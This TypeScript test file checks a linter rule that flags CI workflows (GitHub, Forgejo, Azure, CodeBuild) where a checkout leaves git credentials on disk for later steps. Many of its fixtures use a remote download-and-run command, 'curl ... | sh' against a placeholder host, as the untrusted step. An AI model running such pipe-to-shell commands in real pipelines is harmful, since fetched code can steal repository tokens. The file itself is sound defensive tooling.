import assert from "node:assert/strict";
import { analyze } from "../../server/core/analyze.ts";
import { EMPTY_CONTEXT } from "../../server/core/context.ts";
import { DEFAULT_SETTINGS } from "../../server/core/settings.ts";
import { check, findingsOf, fixAll } from "../check.ts";

const RULE = "persisted-credentials";
const WORKFLOW = ".github/workflows/ci.yml";
const REMOTE = "run: curl -s https://x.example/i | sh";

/** A job of these steps under these top-level lines. */
function job(steps: readonly string[], top = "on: push\n"): string {
  return `${top}jobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n${steps.map((step) => `      - ${step}\n`).join("")}`;
}

/** What the rule does with the one job: nothing, a finding without a fix, or one that its fix heals. */
function verdict(text: string, path = WORKFLOW): "silent" | "told" | "fixed" {
  const found = findingsOf(RULE, path, text);
  if (found.length === 0) return "silent";
  if (found[0]?.fixes.length === 0) return "told";
  const after = fixAll(RULE, path, text, []);
  assert.deepEqual(findingsOf(RULE, path, after), [], after);
  return "fixed";
}

const CHECKOUT = "uses: actions/checkout@v4";

/** Steps behind a checkout, and what is said about that. */
const STEPS: readonly (readonly [string, "silent" | "told" | "fixed", ...string[]])[] = [
  ["a download that runs takes it", "fixed", REMOTE],
  ["an action of others whose tag can move takes it", "fixed", "uses: codecov/codecov-action@v4"],
  ["an action that nobody knows may need it", "told", "uses: acme/tool@v1"],
  ["an image may need it", "told", "uses: docker://acme/tool:latest", REMOTE],
  ["a local action may need it", "told", "uses: ./.github/actions/x", REMOTE],
  ["pinned code is what was reviewed", "silent", `uses: acme/tool@${"1".repeat(40)}`],
  ["the makers of the system run the machine anyway", "silent", "uses: actions/setup-node@v4"],
  ["scripts of the repository are its own", "silent", "run: make test"],
  ["a push needs it", "silent", REMOTE, "run: git push origin HEAD"],
  ["a push with options needs it", "silent", REMOTE, "run: git -C docs push --force"],
  ["a fetch needs it", "silent", REMOTE, "run: git fetch --tags --unshallow"],
  ["submodules need it", "silent", REMOTE, "run: git submodule update --init"],
  ["an action that pushes needs it", "silent", REMOTE, "uses: stefanzweifel/git-auto-commit-action@v5"],
  ["mkdocs pushes", "silent", REMOTE, "run: mkdocs gh-deploy --force"],
  ["semantic-release pushes", "silent", REMOTE, "run: npx semantic-release"],
  ["a script may push under a telling name", "told", REMOTE, "run: npm run deploy"],
  ["so may a target of make", "told", REMOTE, "run: make -j2 release"],
  ["and a file", "told", REMOTE, "run: ./ci/publish-docs.sh"],
  ["an option is no such name", "fixed", REMOTE, "run: cargo build --release && make test"],
  ["publishing to a registry is no push", "fixed", REMOTE, "run: npm publish"],
  ["local git commands do not use it", "fixed", REMOTE, "run: git describe --tags && git status"],
  ["a clone does not look at it", "fixed", REMOTE, "run: git clone https://x.example/y.git"],
  ["an artifact of the tree takes it along", "fixed", "{uses: actions/upload-artifact@v3, with: {path: .}}"],
  ["hidden files stay out of newer artifacts", "silent", "{uses: actions/upload-artifact@v4, with: {path: .}}"],
  [
    "unless somebody asks for them",
    "fixed",
    "{uses: actions/upload-artifact@v4, with: {path: ./, include-hidden-files: true}}",
  ],
  ["an artifact of a folder does not", "silent", "{uses: actions/upload-artifact@v3, with: {path: dist}}"],
];

describe("persisted-credentials", () => {
  for (const [name, expected, ...steps] of STEPS)
    it(`says that ${name}`, () => assert.equal(verdict(job([CHECKOUT, ...steps])), expected));

  it("looks at what comes behind the checkout, and at no other job", () => {
    assert.equal(verdict(job([REMOTE, CHECKOUT])), "silent");
    assert.equal(verdict(`${job([CHECKOUT])}  b:\n    runs-on: x\n    steps:\n      - ${REMOTE}\n`), "silent");
  });

  it("does not mind a token that can read the code and nothing else, unless the checkout has a secret of its own", () => {
    const reading = "on: push\npermissions: {contents: read}\n";
    assert.equal(verdict(job([CHECKOUT, REMOTE], reading)), "silent");
    assert.equal(verdict(job([CHECKOUT, REMOTE], "on: push\npermissions: {}\n")), "silent");
    assert.equal(verdict(job([CHECKOUT, REMOTE], "on: push\npermissions: {packages: read}\n")), "fixed");
    assert.equal(verdict(job([CHECKOUT, REMOTE], "on: push\npermissions: {contents: write}\n")), "fixed");
    const own = `{${CHECKOUT}, with: {token: "\${{ secrets.PAT }}"}}`;
    assert.equal(verdict(job([own, REMOTE], reading)), "fixed");
  });

  it("does not look into an artifact for what newer checkouts keep beside the work tree", () => {
    const upload = "{uses: actions/upload-artifact@v3, with: {path: .}}";
    assert.equal(verdict(job(["uses: actions/checkout@v6", upload])), "silent");
    assert.equal(verdict(job(["uses: actions/checkout@v6", REMOTE])), "fixed");
  });

  it("knows the copies of the action on other forges", () => {
    const path = ".forgejo/workflows/ci.yml";
    assert.equal(verdict(job(["uses: https://code.forgejo.org/actions/checkout@v4", REMOTE]), path), "fixed");
    assert.equal(verdict(job(["uses: someone/checkout@v4", REMOTE])), "silent");
  });

  it("reads the scripts of the repository that a job runs", () => {
    const context = (script: string) => ({
      ...EMPTY_CONTEXT,
      read: (path: string) => (path === "ci/x.sh" ? script : undefined),
    });
    const text = job([CHECKOUT, REMOTE, "run: ./ci/x.sh"]);
    const found = (script: string) =>
      analyze({ path: WORKFLOW, text }, context(script), DEFAULT_SETTINGS).findings.filter(
        ({ rule }) => rule.id === RULE,
      );
    assert.deepEqual(found("git push\n"), []);
    assert.equal(found("make\n")[0]?.fixes.length, 1);
  });

  it("keeps notation, comments and line breaks", () => {
    const pairs: readonly (readonly [string, string])[] = [
      [
        job(["name: Code\n        uses: actions/checkout@v4 # the code", REMOTE]),
        job([
          "name: Code\n        uses: actions/checkout@v4 # the code\n        with:\n          persist-credentials: false",
          REMOTE,
        ]),
      ],
      [
        job(["{uses: actions/checkout@v4, with: {fetch-depth: 0}}", REMOTE]),
        job(["{uses: actions/checkout@v4, with: {fetch-depth: 0, persist-credentials: false}}", REMOTE]),
      ],
      [
        job([`uses: actions/checkout@v4\n        with:\n          persist-credentials: "true" # why`, REMOTE]),
        job([`uses: actions/checkout@v4\n        with:\n          persist-credentials: "false" # why`, REMOTE]),
      ],
      [
        job(["uses: actions/checkout@v4\n        with:\n          # all of it\n          fetch-depth: 0\n", REMOTE]),
        job([
          "uses: actions/checkout@v4\n        with:\n          # all of it\n          fetch-depth: 0\n          persist-credentials: false\n",
          REMOTE,
        ]),
      ],
    ];
    for (const [before, after] of pairs) {
      assert.equal(fixAll(RULE, WORKFLOW, before, []), after);
      const windows = before.replaceAll("\n", "\r\n");
      assert.equal(fixAll(RULE, WORKFLOW, windows, []), after.replaceAll("\n", "\r\n"));
    }
  });

  it("has no fix where an anchor shares the step or its inputs", () => {
    assert.equal(verdict(job(["&code\n        uses: actions/checkout@v4", REMOTE])), "told");
    assert.equal(verdict(job(["uses: actions/checkout@v4\n        with: &in {fetch-depth: 0}", REMOTE])), "told");
  });

  it("marks the option of Azure, and leaves the default alone", () => {
    check(
      RULE,
      "azure-pipelines.yml",
      `jobs:
  - job: a
    steps:
      - {checkout: self, persistCredentials: true} # old
#                                            ^^^^
      - task: acme.tools.scan.scan@1
      - script: curl -s https://x.example/i | sh
  - job: b
    steps:
      - checkout: self
      - script: curl -s https://x.example/i | sh
  - job: c
    steps:
      - {checkout: self, persistCredentials: true}
      - script: curl -s https://x.example/i | sh
      - script: git push origin HEAD:main
`,
    );
    const text = (option: string) =>
      `steps:\n  - checkout: self\n    persistCredentials: ${option}\n  - task: Npm@1\n  - bash: curl -s https://x.example/i | sh\n`;
    assert.equal(fixAll(RULE, "azure-pipelines.yml", text("True"), []), text("false"));
    assert.equal(fixAll(RULE, "azure-pipelines.yml", text("'true'"), []), text("'false'"));
  });

  it("knows the credential helper of CodeBuild", () => {
    const text = (helper: string, command: string) =>
      `version: 0.2\nenv:\n  git-credential-helper: ${helper}\nphases:\n  build:\n    commands:\n      - curl -s https://x.example/i | sh\n      - ${command}\n`;
    assert.equal(fixAll(RULE, "buildspec.yml", text("yes", "make"), []), text("no", "make"));
    assert.equal(verdict(text("yes", "git push"), "buildspec.yml"), "silent");
    assert.equal(verdict(text("no", "make"), "buildspec.yml"), "silent");
  });
});
